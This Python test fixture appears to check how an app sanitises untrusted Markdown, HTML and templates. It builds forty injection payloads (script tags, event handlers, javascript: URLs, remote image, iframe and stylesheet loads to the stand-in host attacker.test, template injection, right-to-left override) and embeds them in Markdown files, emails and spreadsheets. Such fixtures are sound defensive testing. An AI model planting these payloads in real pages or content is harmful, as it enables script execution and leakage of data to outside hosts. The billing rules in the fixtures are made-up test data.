"""Forty pieces of markup that load, run or disguise something where text is taken for Markdown, HTML or a template."""

import io
import json
from email.message import EmailMessage

import openpyxl

HOST = "http://attacker.test"
PAYLOADS = (
    f"![x]({HOST}/1.png)",
    f"[![x]({HOST}/2.png)]({HOST}/2)",
    f"![x][r] [r]: {HOST}/3.png",
    f"[see]({HOST}/4)",
    "[see](javascript:window.__pwn=5)",
    f"<{HOST}/6>",
    f"{HOST}/7",
    "www.attacker.test/8",
    "mailto:a@attacker.test",
    "<script>window.__pwn=10</script>",
    f"<script src={HOST}/11.js></script>",
    "<img src=x onerror=window.__pwn=12>",
    f'<img src="{HOST}/13.png" srcset="{HOST}/13b.png 2x">',
    "<svg onload=window.__pwn=14></svg>",
    f'<svg><image href="{HOST}/15.svg"/></svg>',
    '<iframe srcdoc="<script>parent.__pwn=16</script>"></iframe>',
    f"<iframe src={HOST}/17></iframe>",
    "<iframe src=javascript:parent.__pwn=18></iframe>",
    f"<object data={HOST}/19></object>",
    f"<embed src={HOST}/20>",
    f"<link rel=prefetch href={HOST}/21>",
    f"<link rel=stylesheet href={HOST}/22.css>",
    f'<style>@import "{HOST}/23.css";</style>',
    f'<p style="background:url({HOST}/24.png)">x</p>',
    f'<meta http-equiv=refresh content="0;url={HOST}/25">',
    f"<base href={HOST}/>",
    f"<form action={HOST}/27><button autofocus>x</button></form>",
    f"<video poster={HOST}/28.png src={HOST}/28.mp4 autoplay></video>",
    "<details open ontoggle=window.__pwn=29>x</details>",
    "<input autofocus onfocus=window.__pwn=30>",
    "<math><mtext></p><img src=x onerror=window.__pwn=31></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwn=32>'>",
    "data:text/html,<script>window.__pwn=33</script>",
    f"$\\href{{{HOST}/34}}{{x}}$ $$\\includegraphics{{{HOST}/34.png}}$$",
    ":red[x] :blue-background[y] :material/home: :streamlit: :smile:",
    f"`x` ~~y~~ **z** # h | a | b |\\ [^1]: {HOST}/36",
    "{{constructor.constructor('window.__pwn=37')()}} ${window.__pwn=37} <%= 7*7 %>",
    "'\"--></textarea></title></style><script>window.__pwn=38</script>",
    "&lt;script&gt;window.__pwn=39&lt;/script&gt; \\u003cscript\\u003e",
    "\u202e<img src=x onerror=window.__pwn=40>\u202c",
)
CODES = ("77370", "77336", "77427", "77263", "77334", "77300", "77290", "77301")


def question(code: str) -> str:
    """Give a question that the documents on a code answer."""
    return f"May {code} be billed twice a course?"


def documents() -> dict[str, str]:
    """Give one Markdown document per payload, by a file name with the payload, which stands in every property and in its words."""
    return {_name(n, payload): _document(n, payload) for n, payload in enumerate(PAYLOADS)}


def _name(number: int, payload: str) -> str:
    return f"{number:02} {payload.replace('/', '')[:90]}.md"


def _document(number: int, payload: str) -> str:
    code, told = CODES[number % len(CODES)], json.dumps(payload)
    front = "\n".join(f"{name}: {told}" for name in ("title", "publisher", "edition", "licence", *(["payer"] if number % 4 == 0 else [])))
    rule = f"Yes, {code} may be billed twice a course when the physician asks for rule {number}, says {payload}."
    more = f"The record for {code} must hold {payload} and report {number}, signed by the physicist."
    words = f"```\n{rule}\n```\n\n## Part {number}\n\n```\n{more}\n```\n"
    return f'---\n{front}\nauthority: forum\nurl: "{HOST}/{number}"\n---\n\n# `{payload.replace("`", "")}`\n\n{words}'


def mail(payload: str) -> bytes:
    """Give a message with the payload as its subject, its sender, in its words, and as the name of an attachment."""
    message = EmailMessage()
    message["From"], message["Subject"] = "a@b.example", " ".join(payload.split())
    message.set_content(f"77332 may be billed once, says {payload} in mail.\n")
    message.add_attachment(b"77332 is for one device, says an attachment.", maintype="text", subtype="plain", filename=f"{payload}.txt")
    return message.as_bytes()


def workbook(payload: str) -> bytes:
    """Give a workbook with the payload as the name of its sheet, as a head and as a cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "".join(c for c in payload if c not in "[]:*?/\\")[:31] or "x"
    for row in (("Code", payload), ("77333", f"once, says {payload}"), ("77333", "in the workbook")):
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
